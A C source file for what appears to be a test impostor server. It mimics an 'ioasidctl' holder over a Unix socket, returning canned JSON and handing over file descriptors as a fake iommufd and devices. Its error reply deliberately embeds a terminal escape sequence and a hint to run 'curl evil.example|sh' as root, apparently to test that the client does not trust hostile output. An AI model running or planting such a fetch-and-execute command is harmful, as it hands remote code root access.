/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * impostor SOCKET [FILE...]: a user's program in place of a holder. It answers every call with
 * success, hands over FILEs as an iommufd and devices 0000:00:10.0, ..., and if asked for an
 * invalid IOAS, refuses with a text that root should not obey.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define REFUSAL \
	"{\"error\":\"org.ioasidctl.Context.KernelError\",\"parameters\":{\"operation\":\"\\u001b[31mioasidctl: " \
	"all is well\",\"errno\":16,\"errno_name\":\"EBUSY\",\"hint\":\"run 'curl evil.example|sh' as root\"}}"
#define DESCRIPTION \
	"{\"parameters\":{\"name\":\"lab\",\"pid\":1,\"uid\":0,\"created\":5,\"iommufd\":true,\"device\":[]," \
	"\"ioas\":[],\"hwpt\":[]}}"

static const struct {
	const char *method, *reply;
} answers[] = {
	{ ".GetInfo\"", "{\"parameters\":{\"interfaces\":[\"org.ioasidctl.Context\"]}}" },
	{ ".Describe\"", DESCRIPTION },
	{ ".ListBindings\"", "{\"parameters\":{\"binding\":[]}}" },
	{ ".AllocIoas\"", "{\"parameters\":{\"ioas\":{\"id\":2,\"name\":null}}}" },
	{ ".Destroy\"", "{\"parameters\":{}}" },
	{ "", REFUSAL },
};

/* Sends N files, the first as the iommufd. */
static void hand_over(int fd, char *const *file, int n)
{
	union {
		char bytes[CMSG_SPACE(4 * sizeof(int))];
		struct cmsghdr align;
	} control = { 0 };
	char text[256] = "{\"parameters\":{\"name\":[\"iommufd\"";
	struct iovec part = { .iov_base = text };
	struct msghdr message = { .msg_iov = &part, .msg_iovlen = 1, .msg_control = &control };
	struct cmsghdr *head;

	message.msg_controllen = CMSG_SPACE((size_t)n * sizeof(int));
	head = CMSG_FIRSTHDR(&message);
	head->cmsg_level = SOL_SOCKET;
	head->cmsg_type = SCM_RIGHTS;
	head->cmsg_len = CMSG_LEN((size_t)n * sizeof(int));
	for (int i = 0; i < n; i++) {
		int one = open(file[i], O_RDWR | O_CLOEXEC);

		memcpy(CMSG_DATA(head) + (size_t)i * sizeof(int), &one, sizeof(one));
		if (i)
			snprintf(text + strlen(text), sizeof(text) - strlen(text),
				 ",\"0000:00:1%d.0\"", i - 1);
	}
	snprintf(text + strlen(text), sizeof(text) - strlen(text), "]}}");
	part.iov_len = strlen(text) + 1;
	if (sendmsg(fd, &message, 0) < 0)
		perror("sendmsg");
}

static void serve(int fd, char *const *file, int n)
{
	char call[65536];
	size_t length = 0, i;

	for (;;) {
		ssize_t got = read(fd, call + length, sizeof(call) - length);

		if (got <= 0)
			return;
		length += (size_t)got;
		if (call[length - 1])
			continue;
		length = 0;
		if (strstr(call, ".GetFds\"")) {
			hand_over(fd, file, n);
			continue;
		}
		for (i = 0; !strstr(call, answers[i].method); i++)
			;
		if (write(fd, answers[i].reply, strlen(answers[i].reply) + 1) < 0)
			return;
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_un address = { .sun_family = AF_UNIX };
	int listener = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0), fd;

	if (argc < 3 || argc > 6 || strlen(argv[1]) >= sizeof(address.sun_path)) {
		fprintf(stderr, "usage: impostor SOCKET FILE...\n");
		return 2;
	}
	snprintf(address.sun_path, sizeof(address.sun_path), "%s", argv[1]);
	unlink(argv[1]);
	if (bind(listener, (struct sockaddr *)&address, sizeof(address)) < 0 ||
	    listen(listener, 5) < 0) {
		perror(argv[1]);
		return 1;
	}
	while ((fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		serve(fd, argv + 2, argc - 2);
		close(fd);
	}
	return 1;
}
